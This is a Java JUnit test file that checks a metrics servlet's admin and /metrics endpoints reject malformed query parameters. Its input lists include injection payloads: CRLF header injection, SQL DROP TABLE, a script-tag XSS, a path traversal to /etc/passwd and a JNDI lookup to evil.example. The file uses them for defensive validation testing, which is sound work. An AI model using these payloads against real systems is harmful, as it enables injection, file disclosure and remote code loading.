package io.tallystick.servlet;

import static org.assertj.core.api.Assertions.assertThat;

import io.tallystick.core.MetricsRuntime;
import io.tallystick.core.testing.TestRuntime;
import io.tallystick.servlet.http.EndpointView;
import io.tallystick.servlet.json.JsonApi;
import java.io.IOException;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.AfterParameterizedClassInvocation;
import org.junit.jupiter.params.BeforeParameterizedClassInvocation;
import org.junit.jupiter.params.Parameter;
import org.junit.jupiter.params.ParameterizedClass;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Each parameter of each endpoint with what nobody may give, as bytes over a socket. */
@ParameterizedClass
@EnumSource(Transport.class)
class BadParameterWireTest {
  /** Of these any text is a good one. */
  private static final Set<String> OF_ANY_TEXT =
      Set.of(
          "rule",
          "endpoint",
          "client",
          "source",
          "tenant",
          "contains",
          "after",
          "tag.x",
          "key",
          "metric",
          "group_by");

  private static final List<String> NEVER_GOOD =
      List.of(
          "%00",
          "%0d%0aX-Injected:%201",
          "%ff",
          "%c0%ae",
          "%ed%a0%80",
          "%zz",
          "%",
          "%u0041",
          "a".repeat(1_001),
          "%C2%85");

  private static final List<String> GOOD_AS_TEXT_ALONE =
      List.of(
          "nonsense",
          "-1",
          "99999999999999999999",
          "1e9",
          "NaN",
          "0x10",
          "%D9%A3",
          "'%3B%20DROP%20TABLE%20metrics--",
          "%3Cscript%3Ealert(1)%3C/script%3E",
          "../../etc/passwd",
          "$%7Bjndi:ldap://evil.example/a%7D",
          "%E2%80%AE");

  private static WireBed bed;

  @Parameter Transport transport;

  @BeforeParameterizedClassInvocation
  static void start(Transport transport) {
    bed = WireBed.start(transport);
  }

  @AfterParameterizedClassInvocation
  static void stop() {
    bed.close();
  }

  private static List<EndpointView> table() {
    try (MetricsRuntime runtime = TestRuntime.create()) {
      return JsonApi.of(new RuntimeParts(runtime, hash -> null)).below("/admin").stream()
          .map(EndpointView::of)
          .filter(endpoint -> endpoint.method().equals("GET"))
          .toList();
    }
  }

  /** The address with one parameter, and those that it cannot do without. */
  private static String address(EndpointView endpoint, String name, String value) {
    StringBuilder address =
        new StringBuilder(endpoint.path().replaceAll("\\{[a-z]+}", "orders")).append('?');
    Map.of("metric", "orders.count", "tenant", "acme")
        .forEach(
            (needed, good) -> {
              boolean isNeeded = needed.equals("metric") || endpoint.path().contains("user-");
              if (isNeeded && endpoint.parameters().contains(needed) && !needed.equals(name)) {
                address.append(needed).append('=').append(good).append('&');
              }
            });
    return address.append(name).append('=').append(value).toString();
  }

  private static List<String> names(EndpointView endpoint) {
    return endpoint.parameters().stream().map(name -> name.replace("*", "x")).toList();
  }

  @Test
  void whatIsNeverGoodIsRefusedByName() throws IOException {
    for (EndpointView endpoint : table()) {
      for (String name : names(endpoint)) {
        for (String value : NEVER_GOOD) {
          String address = address(endpoint, name, value);
          Reply reply = bed.get(address);
          WireBed.isRefusedWell(address, reply);
          if (reply.isOurs()) {
            assertThat(reply.status()).as(address).isEqualTo(400);
            assertThat(reply.text()).as(address).contains("\"parameter\":\"" + name + '"');
          }
        }
      }
    }
    bed.stillAnswers();
  }

  @Test
  void whatMeansNothingIsRefusedByNameAndFoundNowhereWhereAnyTextIsGood() throws IOException {
    for (EndpointView endpoint : table()) {
      for (String name : names(endpoint)) {
        for (String value : GOOD_AS_TEXT_ALONE) {
          String address = address(endpoint, name, value);
          Reply reply = bed.get(address);
          assertThat(reply.status()).as("%s got %s", address, reply).isBetween(200, 499);
          assertThat(reply.text()).doesNotContain("<script>alert(1)", "Exception", "\tat ");
          if (!OF_ANY_TEXT.contains(name) && value.equals("nonsense")) {
            assertThat(reply.status())
                .as(address)
                .isIn(400, endpoint.path().contains("{") ? 404 : 400);
          }
        }
      }
    }
    bed.stillAnswers();
  }

  @Test
  void aParameterThatIsGivenTwiceIsRefused() throws IOException {
    for (EndpointView endpoint : table()) {
      for (String name : names(endpoint)) {
        if (!name.startsWith("tag.") && !endpoint.path().contains("{")) {
          String address = address(endpoint, name, "1") + "&" + name + "=1";
          Reply reply = bed.get(address);
          assertThat(reply.status()).as("%s got %s", address, reply).isEqualTo(400);
        }
      }
    }
  }

  @Test
  void aParameterThatMeansNothingIsRefused() throws IOException {
    for (EndpointView endpoint : table()) {
      String address = address(endpoint, "callback", "alert");
      Reply reply = bed.get(address);
      assertThat(reply.status()).as("%s got %s", address, reply).isEqualTo(400);
      assertThat(reply.header("content-type")).startsWith("application/problem+json");
      assertThat(reply.text()).contains("\"parameter\":\"callback\"", "\"rule\":");
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"/admin/api-metrics/names", "/metrics"})
  void manyParametersAreRefused(String path) throws IOException {
    Reply reply = bed.get(path + "?" + "contains=a&".repeat(101));

    assertThat(reply.status()).as("%s", reply).isEqualTo(400);
    bed.stillAnswers();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "name%5B%5D=%00",
        "name%5B%5D=%ff",
        "name[]=%0d%0aX-Injected:%201",
        "%00=1",
        "%=1"
      })
  void whatScrapersAskForIsReadAsStrictly(String query) throws IOException {
    Reply reply = bed.get("/metrics?" + query);

    WireBed.isRefusedWell(query, reply);
    bed.stillAnswers();
  }
}
